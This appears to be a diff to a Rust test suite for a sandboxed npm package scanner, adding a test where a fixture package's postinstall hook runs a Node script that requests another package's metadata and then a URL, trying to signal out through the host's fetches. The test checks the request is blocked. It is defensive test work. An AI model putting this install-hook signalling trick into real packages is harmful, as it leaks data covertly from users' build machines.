@@ -1789,7 +1789,44 @@ fn a_url_dependency_is_fetched_on_the_host_and_its_install_judged() {
         "{requests:#?}"
     );
     assert_eq!(files.requests().len(), 2, "{:?}", files.requests());
+
+    // A script cannot make the host fetch what another published package declares: it
+    // asks the proxy for that packument, then for one of its URLs; neither leaves.
+    registry.publish(
+        PackageBuilder::new("signal-kit", "1.0.0")
+            .script("postinstall", "node signal.js")
+            .file("signal.js", SIGNAL_SCRIPT)
+            .build(),
+    );
+    let signalled = scan_dynamic(
+        &registry,
+        &["--connect-to", &connect_to],
+        "signal-kit@1.0.0",
+    );
+    let requests = phase_records(&signalled["dynamic"], "/http");
+    assert!(
+        requests.iter().any(
+            |r| r["url"] == "http://packages.example/npm/colour-names.tgz"
+                && r["fetched"].is_null()
+        ),
+        "{requests:#?}"
+    );
+    assert_eq!(files.requests().len(), 2, "{:?}", files.requests());
 }
+
+/// Asks the registry for a package it does not depend on (palette-kit, which declares
+/// a URL dependency), then for that URL: choosing which URLs the host fetches would be
+/// a way to signal out.
+const SIGNAL_SCRIPT: &str = r#"const http = require('http');
+const https = require('https');
+https.get('https://registry.npmjs.org/palette-kit', (res) => {
+  res.resume();
+  res.on('end', () => {
+    http.get('http://packages.example/npm/colour-names.tgz', (r) => r.resume()).on('error', () => {});
+  });
+}).on('error', () => {});
+setTimeout(() => {}, 1500);
+"#;
 
 /// A stand-in for GitHub over TLS (`names` among github.com and codeload.github.com)
 /// serving the tarball of `commit` of acme/build-helpers, whose prepare steals the npm
